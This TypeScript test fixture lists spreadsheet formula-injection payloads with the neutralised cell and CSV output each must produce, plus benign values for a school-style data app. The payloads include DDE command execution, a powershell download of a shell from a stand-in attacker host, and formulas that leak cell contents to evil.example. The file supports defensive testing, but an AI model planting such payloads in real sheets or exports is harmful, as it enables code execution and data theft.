/**
 * Spreadsheet formula-injection payloads (OWASP "CSV Injection"; ASVS 1.2.10), each with what
 * neutralisation must produce. Reused by any test that writes text from a person, a Form or a CSV to a
 * Sheet or to a CSV export.
 *
 * - `cell`: neutraliseFormula(payload), the value to write to a Sheet. Sheets (and the emulator) drop one
 *   leading apostrophe and store the rest as text, so the stored text is always exactly `payload`, and a
 *   cell written from `cell` never holds a formula.
 * - `csv`: neutraliseCsvField(payload), the field as written in an exported CSV (formula triggers after a
 *   separator inside the field also get an apostrophe there).
 * - `formulaLike`: isFormulaLike(payload).
 *
 * Expectations are written out by hand, not computed, so the tests can fail.
 */
export interface InjectionCase {
  description: string;
  payload: string;
  cell: string;
  csv: string;
  formulaLike: boolean;
}

export const INJECTION_CORPUS: readonly InjectionCase[] = [
  { description: 'plain formula', payload: '=1+1', cell: "'=1+1", csv: `"'=1+1"`, formulaLike: true },
  { description: 'equals sign alone', payload: '=', cell: "'=", csv: `"'="`, formulaLike: true },
  {
    description: 'DDE command execution',
    payload: "=cmd|' /C calc'!A0",
    cell: "'=cmd|' /C calc'!A0",
    csv: `"'=cmd|' /C calc'!A0"`,
    formulaLike: true,
  },
  {
    description: 'DDE via powershell',
    payload: "=cmd|'/c powershell IEX(wget attacker.example/shell.exe)'!A0",
    cell: "'=cmd|'/c powershell IEX(wget attacker.example/shell.exe)'!A0",
    csv: `"'=cmd|'/c powershell IEX(wget attacker.example/shell.exe)'!A0"`,
    formulaLike: true,
  },
  {
    description: 'DDE via MSEXCEL and regsvr32',
    payload: "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
    cell: "'=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
    csv: `"'=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''"`,
    formulaLike: true,
  },
  {
    description: 'DDE via rundll32',
    payload: "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    cell: "'=rundll32|'URL.dll,OpenURL calc.exe'!A",
    csv: `"'=rundll32|'URL.dll,OpenURL calc.exe'!A"`,
    formulaLike: true,
  },
  {
    description: 'DDE function',
    payload: '=DDE("cmd";"/C calc";"!A0")',
    cell: `'=DDE("cmd";"/C calc";"!A0")`,
    csv: `"'=DDE(""cmd"";""/C calc"";""!A0"")"`,
    formulaLike: true,
  },
  {
    description: 'DDE after @SUM',
    payload: "@SUM(1+1)*cmd|' /C calc'!A0",
    cell: "'@SUM(1+1)*cmd|' /C calc'!A0",
    csv: `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
    formulaLike: true,
  },
  {
    description: 'DDE after minus arithmetic',
    payload: "-2+3+cmd|' /C calc'!A0",
    cell: "'-2+3+cmd|' /C calc'!A0",
    csv: `"'-2+3+cmd|' /C calc'!A0"`,
    formulaLike: true,
  },
  {
    description: 'DDE after plus',
    payload: "+cmd|' /C calc'!A0",
    cell: "'+cmd|' /C calc'!A0",
    csv: `"'+cmd|' /C calc'!A0"`,
    formulaLike: true,
  },
  {
    description: 'HYPERLINK exfiltrating a neighbouring cell',
    payload: '=HYPERLINK("http://evil.example?"&A1,"Click")',
    cell: `'=HYPERLINK("http://evil.example?"&A1,"Click")`,
    csv: `"'=HYPERLINK(""http://evil.example?""&A1,""Click"")"`,
    formulaLike: true,
  },
  {
    description: 'IMPORTXML exfiltrating a range',
    payload: '=IMPORTXML(CONCAT("http://evil.example/?leak=",A1:C9),"//a")',
    cell: `'=IMPORTXML(CONCAT("http://evil.example/?leak=",A1:C9),"//a")`,
    csv: `"'=IMPORTXML(CONCAT(""http://evil.example/?leak="",A1:C9),""//a"")"`,
    formulaLike: true,
  },
  {
    description: 'IMPORTRANGE pulling another spreadsheet',
    payload: '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/1AbCdEf/edit","Sheet1!A1:Z999")',
    cell: `'=IMPORTRANGE("https://docs.google.com/spreadsheets/d/1AbCdEf/edit","Sheet1!A1:Z999")`,
    csv: `"'=IMPORTRANGE(""https://docs.google.com/spreadsheets/d/1AbCdEf/edit"",""Sheet1!A1:Z999"")"`,
    formulaLike: true,
  },
  {
    description: 'IMPORTDATA',
    payload: '=IMPORTDATA("http://evil.example/x.csv")',
    cell: `'=IMPORTDATA("http://evil.example/x.csv")`,
    csv: `"'=IMPORTDATA(""http://evil.example/x.csv"")"`,
    formulaLike: true,
  },
  {
    description: 'IMPORTHTML',
    payload: '=IMPORTHTML("http://evil.example","table",1)',
    cell: `'=IMPORTHTML("http://evil.example","table",1)`,
    csv: `"'=IMPORTHTML(""http://evil.example"",""table"",1)"`,
    formulaLike: true,
  },
  {
    description: 'IMPORTFEED',
    payload: '=IMPORTFEED("http://evil.example/feed")',
    cell: `'=IMPORTFEED("http://evil.example/feed")`,
    csv: `"'=IMPORTFEED(""http://evil.example/feed"")"`,
    formulaLike: true,
  },
  {
    description: 'WEBSERVICE (Excel)',
    payload: '=WEBSERVICE("http://evil.example/?"&A1)',
    cell: `'=WEBSERVICE("http://evil.example/?"&A1)`,
    csv: `"'=WEBSERVICE(""http://evil.example/?""&A1)"`,
    formulaLike: true,
  },
  {
    description: 'IMAGE beacon',
    payload: '=IMAGE("http://evil.example/pixel.png?"&A1)',
    cell: `'=IMAGE("http://evil.example/pixel.png?"&A1)`,
    csv: `"'=IMAGE(""http://evil.example/pixel.png?""&A1)"`,
    formulaLike: true,
  },
  {
    description: 'QUERY over IMPORTRANGE',
    payload: '=QUERY(IMPORTRANGE("1AbCdEf","A:Z"),"select *")',
    cell: `'=QUERY(IMPORTRANGE("1AbCdEf","A:Z"),"select *")`,
    csv: `"'=QUERY(IMPORTRANGE(""1AbCdEf"",""A:Z""),""select *"")"`,
    formulaLike: true,
  },
  { description: 'leading plus', payload: '+1+1', cell: "'+1+1", csv: `"'+1+1"`, formulaLike: true },
  { description: 'leading minus', payload: '-2+3', cell: "'-2+3", csv: `"'-2+3"`, formulaLike: true },
  { description: 'minus alone', payload: '-', cell: "'-", csv: `"'-"`, formulaLike: true },
  { description: 'leading at sign', payload: '@SUM(A1)', cell: "'@SUM(A1)", csv: `"'@SUM(A1)"`, formulaLike: true },
  { description: 'tab then formula', payload: '\t=1', cell: "'\t=1", csv: `"'\t'=1"`, formulaLike: true },
  { description: 'carriage return then formula', payload: '\r=1', cell: "'\r=1", csv: `"'\r'=1"`, formulaLike: true },
  { description: 'line feed then formula', payload: '\n=1', cell: "'\n=1", csv: `"'\n'=1"`, formulaLike: true },
  { description: 'tab-led plain text', payload: '\thello', cell: "'\thello", csv: `"'\thello"`, formulaLike: true },
  { description: 'leading space then formula', payload: ' =1+1', cell: "' =1+1", csv: `"' =1+1"`, formulaLike: true },
  { description: 'several spaces then formula', payload: '   +A1', cell: "'   +A1", csv: `"'   +A1"`, formulaLike: true },
  { description: 'no-break space then formula', payload: '\u00A0=1+1', cell: "'\u00A0=1+1", csv: `"'\u00A0=1+1"`, formulaLike: true },
  { description: 'zero-width space then formula', payload: '\u200B=1+1', cell: "'\u200B=1+1", csv: `"'\u200B=1+1"`, formulaLike: true },
  { description: 'byte-order mark then formula', payload: '\uFEFF=1+1', cell: "'\uFEFF=1+1", csv: `"'\uFEFF=1+1"`, formulaLike: true },
  { description: 'NUL then formula', payload: '\u0000=1+1', cell: "'\u0000=1+1", csv: `"'\u0000=1+1"`, formulaLike: true },
  { description: 'full-width equals', payload: '＝1+1', cell: "'＝1+1", csv: `"'＝1+1"`, formulaLike: true },
  { description: 'full-width plus', payload: '＋1+1', cell: "'＋1+1", csv: `"'＋1+1"`, formulaLike: true },
  { description: 'full-width minus', payload: '－2+3', cell: "'－2+3", csv: `"'－2+3"`, formulaLike: true },
  { description: 'full-width at sign', payload: '＠SUM(A1)', cell: "'＠SUM(A1)", csv: `"'＠SUM(A1)"`, formulaLike: true },
  {
    description: 'semicolon, spaces and a quote before a DDE payload',
    payload: 'ok; "=cmd|\' /C calc\'!A0',
    cell: 'ok; "=cmd|\' /C calc\'!A0',
    csv: `"ok; ""'=cmd|' /C calc'!A0"`,
    formulaLike: false,
  },
  {
    description: 'formula inside double quotes: text in a cell; in CSV the quotes are kept by doubling',
    payload: '"=1+1"',
    cell: '"=1+1"',
    csv: `"""=1+1"""`,
    formulaLike: false,
  },
  {
    description: 'semicolon before formula: text in a cell; in CSV the inner trigger is neutralised too, for semicolon-delimited readers',
    payload: ';=1',
    cell: ';=1',
    csv: `";'=1"`,
    formulaLike: false,
  },
  {
    description: 'comma before formula: text in a cell; in CSV the inner trigger is neutralised too',
    payload: ',=1+1',
    cell: ',=1+1',
    csv: `",'=1+1"`,
    formulaLike: false,
  },
  {
    description: 'formula on a second line of a note: the cell does not start with it; CSV neutralises the line for readers that split lines',
    payload: 'Phoned mum\n=1+1',
    cell: 'Phoned mum\n=1+1',
    csv: `"Phoned mum\n'=1+1"`,
    formulaLike: false,
  },
  {
    description: 'text already starting with an apostrophe keeps it (a second one is added, as Sheets drops one)',
    payload: "'=1+1",
    cell: "''=1+1",
    csv: `"''=1+1"`,
    formulaLike: false,
  },
];

/** Ordinary values that must pass through unchanged. */
export const BENIGN_VALUES: readonly string[] = [
  "O'Brien",
  'Zoë Ó Briain-Smith',
  'Year 7',
  'a.khan@school.org.uk',
  '1+1=2',
  'Temperature 38.5',
  'E=mc²',
  '5',
  '',
  'Asked for work packs; sent Monday',
];
